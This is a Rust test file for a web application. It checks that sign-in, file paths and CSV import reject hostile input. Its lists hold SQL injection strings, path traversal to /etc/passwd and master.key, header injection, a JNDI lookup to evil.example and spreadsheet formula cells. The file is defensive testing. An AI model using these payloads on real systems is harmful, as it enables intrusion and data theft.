use crate::common::{House, body};

const HOSTILE: [&str; 8] = [
    "'; DROP TABLE accounts; --",
    "\" OR 1=1 --",
    "police' --",
    "../../../../etc/passwd",
    "a\r\nSet-Cookie: nabotjek=1",
    "%0d%0aLocation: https://evil.example",
    "${jndi:ldap://evil.example}",
    "police\u{0}",
];

#[tokio::test]
async fn t27_hostile_names_neither_sign_in_nor_change_anything() {
    let house = House::new();
    let rows = house.rows();
    let mut browser = house.stranger();
    for name in HOSTILE {
        let token = browser.get("/sign-in").await.token("/sign-in");
        let fields = [("name", name), ("password", name), ("next", name)];
        let answer = browser.post_raw("/sign-in?lang=en", body(&token, &fields)).await;
        let status = answer.status.as_u16();
        assert!([422, 429, 400].contains(&status), "{name:?}: {status}");
        assert!(answer.headers.get("location").is_none());
        assert_eq!(answer.header("set-cookie").matches("nabotjek").count(), 0);
        house.later(jiff::SignedDuration::from_hours(1));
    }
    assert_eq!(house.rows(), rows);
    assert_eq!(house.journal.accounts().unwrap().len(), crate::common::PEOPLE.len());
}

#[tokio::test]
async fn t27_hostile_addresses_find_nothing() {
    let house = House::new();
    let mut inspector = house.browser("social-inspector");
    for path in [
        "/static/../Cargo.toml",
        "/static/..%2f..%2fCargo.toml",
        "/static/%2e%2e/Cargo.toml",
        "/static//etc/passwd",
        "/circular/..%2f..",
        "/circular/be/rule/'%20OR%201=1",
        "/circular/be/stage/%00",
        "/files/..%2f..%2fmaster.key",
        "/files/BE-0000-0000'%20--",
        "/api/v1/files/%F0%9F%92%A9",
        "/figures/2022;DROP",
    ] {
        inspector.get(path).await.has_status(404);
    }
    // Bytes in an address that are no text.
    assert!(inspector.get("/files/%ff%fe").await.status.is_client_error());
}

#[tokio::test]
async fn t27_a_table_for_correction_opens_without_formulas() {
    let house = House::new();
    let mut inspector = house.browser("social-inspector");
    let token = inspector.get("/import").await.token("/import");
    let mut sheet = String::from("nbt_on,nbt_region,nbt_setting,prs_FirstName\n");
    for cell in ["=1+1", "+1", "-1", "@SUM(A1)", "\"\t=1\"", "\"\r=1\""] {
        sheet.push_str(&format!("2026-02-30,brussels,care,{cell}\n"));
    }
    let content = format!(
        "--s\r\nContent-Disposition: form-data; name=\"form\"\r\n\r\n{token}\r\n--s\r\nContent-Disposition: form-data; \
         name=\"file\"; filename=\"x\"\r\n\r\n{sheet}\r\n--s--\r\n"
    );
    let request =
        axum::http::Request::post("/import").header("content-type", "multipart/form-data; boundary=s");
    inspector.send(request.body(content.into()).unwrap()).await.leads_to("/import");
    let table = inspector.get("/import/bad-rows.csv").await;
    table.has_status(200);
    assert!(table.body.lines().count() >= 7, "{}", table.body);
    for cell in table.body.split([',', '\n']) {
        let cell = cell.trim_start_matches('"');
        let is_formula =
            cell.starts_with(['=', '+', '-', '@', '\t']) || (cell.starts_with('\r') && cell.len() > 1);
        assert!(!is_formula, "{cell:?} in {}", table.body);
    }
}
